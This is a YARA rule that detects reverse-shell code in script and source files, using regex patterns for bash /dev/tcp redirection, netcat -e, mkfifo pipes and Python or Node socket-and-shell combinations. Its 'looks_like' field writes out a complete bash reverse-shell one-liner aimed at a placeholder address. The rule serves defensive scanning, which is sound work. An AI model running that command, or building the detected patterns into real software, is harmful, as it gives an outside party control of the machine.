rule mcpfs_reverse_shell
{
    meta:
        description = "Gives a shell to whoever answers at an address"
        severity = "error"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        looks_like = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
        false_positives = "texts about such attacks in code"
        fix = "do not publish it"
        path_include = "*.js,*.mjs,*.cjs,*.jsx,*.ts,*.mts,*.cts,*.tsx,*.py,*.pyw,*.pth,*.sh,*.bash,*/bin/*,bin/*"
    strings:
        $bash = /\b(ba|z|k|da)?sh\s+-i\s*[^\n]{0,12}[>&|<]{1,3}\s*\/dev\/(tcp|udp)\//
        $bash_fd = /exec\s+\d{1,3}<>\s*\/dev\/(tcp|udp)\//
        $netcat = /\bn(c|cat|etcat)\b[^\n]{0,60}\s-(e|c|-exec|-sh-exec)\s*['"]?\/?(bin\/)?(ba|da)?sh\b/
        $fifo = /mkfifo\s[^\n]{0,80}\|\s*[^\n]{0,40}\bsh\b[^\n]{0,40}\|\s*(nc|ncat|openssl s_client)\b/
        $py_dup = /os\.dup2\s*\(\s*\w+\.fileno\(\)/
        $py_shell = /(pty\.spawn\s*\(|subprocess\.(call|run|Popen)\s*\(\s*\[?\s*['"]\/bin\/(ba)?sh)/
        $py_socket = /socket\.socket\s*\(/
        $js_socket = /\b(net\.(connect|createConnection|Socket)|new\s+Socket)\s*\(/
        $js_shell = /\bspawn\s*\(\s*['"](\/bin\/)?(ba|z)?sh['"]|\bspawn\s*\(\s*['"]cmd(\.exe)?['"]/
        $js_pipe = /\.pipe\s*\(\s*\w+\.stdin\s*\)/
    condition:
        filesize < 8MB and
        (any of ($bash*) or $netcat or $fifo or
         $py_socket and $py_dup and $py_shell or
         $js_socket and $js_shell and $js_pipe)
}
